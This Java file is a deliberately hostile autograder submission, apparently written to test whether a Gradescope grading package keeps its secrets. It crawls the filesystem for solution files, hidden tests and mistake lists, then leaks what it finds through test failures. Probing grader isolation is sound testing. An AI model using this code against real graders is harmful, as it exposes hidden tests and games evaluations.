package gates;

import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

/**
 * HOSTILE SUBMISSION (a proof of the Gradescope package, not an exercise answer). Once per test JVM it
 * searches the disk for reference solutions, known mistakes and hidden-test sources, first around the
 * folders of its own class path and at the names the package is known to use, then everywhere else it
 * can read, for six seconds. It prints what it finds and fails every 2.9 test with the list, which
 * results.json shows to the student.
 */
public final class Separability {
    private Separability() {}

    public static final int MAX_WEIGHT = 3;

    private static final String FOUND = search();

    public static Optional<Perceptron> separatingPerceptron(TruthTable table) {
        throw new AssertionError("hostile search: " + FOUND);
    }

    private static String search() {
        long deadline = System.nanoTime() + 6_000_000_000L;
        Set<Path> starts = new LinkedHashSet<>();
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            for (Path p = Paths.get(entry).toAbsolutePath(); p != null; p = p.getParent()) {
                for (String guess : List.of("hidden", "source/hidden", "src/solution", "src/test/mistakes",
                        "chapter02-logic-gates/src/solution", "course/chapter02-logic-gates/src/solution")) {
                    starts.add(p.resolve(guess));
                }
            }
        }
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            Path above = Paths.get(entry).toAbsolutePath().getParent();
            for (Path p = above; p != null && p.getParent() != null; p = p.getParent()) starts.add(p);
        }
        for (String p : List.of("/autograder/source/hidden", "/autograder", "/tmp", "/root", "/home", "/")) {
            starts.add(Paths.get(p));
        }
        List<String> found = new ArrayList<>();
        List<String> denied = new ArrayList<>();
        Set<String> seen = new HashSet<>();
        int files = 0;
        Deque<Path> todo = new ArrayDeque<>(starts);
        while (!todo.isEmpty() && System.nanoTime() < deadline) {
            Path dir = todo.removeFirst();
            if (!seen.add(dir.toString()) || Stream.of("/proc", "/sys", "/dev").anyMatch(dir::startsWith)) continue;
            try (DirectoryStream<Path> entries = Files.newDirectoryStream(dir)) {
                for (Path p : entries) {
                    if (Files.isDirectory(p, LinkOption.NOFOLLOW_LINKS)) {
                        todo.addLast(p);
                    } else if (Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS) && secret(p)) {
                        files++;
                        if (read(p)) found.add(p.toString());
                    }
                }
            } catch (java.nio.file.AccessDeniedException e) {
                denied.add(dir.toString());
            } catch (IOException | RuntimeException e) {
                // not there: on to the next folder
            }
        }
        System.out.println("hostile search was denied " + denied);
        return "read " + found.size() + " of " + files + " secret-looking files (denied " + denied.size() + " folders): "
                + found;
    }

    private static boolean secret(Path p) {
        String s = p.toString().replace('\\', '/');
        return (s.endsWith(".java") && (s.contains("/solution/") || s.contains("/hidden/")))
                || (s.contains("/mistakes/") && s.endsWith(".properties"));
    }

    private static boolean read(Path p) {
        try {
            String first = Files.readAllLines(p).stream().filter(l -> !l.isBlank()).findFirst().orElse("");
            System.out.println("hostile search read " + p + ": " + first);
            return true;
        } catch (IOException | RuntimeException e) {
            return false;
        }
    }
}
